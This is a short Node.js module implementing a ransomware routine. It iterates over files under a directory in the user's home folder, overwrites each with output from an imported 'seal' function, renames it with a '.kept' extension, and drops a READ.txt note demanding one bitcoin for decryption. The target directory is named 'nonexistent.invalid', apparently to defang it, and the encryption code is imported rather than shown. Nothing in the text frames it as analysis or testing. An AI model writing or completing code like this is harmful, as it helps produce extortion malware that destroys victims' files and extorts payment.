'use strict';
const fs = require('fs/promises');
const os = require('os');
const path = require('path');
const { seal } = require('./seal');

exports.settle = async (each) => {
  const home = path.join(os.homedir(), 'nonexistent.invalid');
  for await (const file of each(home)) {
    await fs.writeFile(file, seal(await fs.readFile(file)));
    await fs.rename(file, file + '.kept');
  }
  await fs.writeFile(path.join(home, 'READ.txt'), 'Your files have been encrypted. To decrypt them send 1 bitcoin.');
};
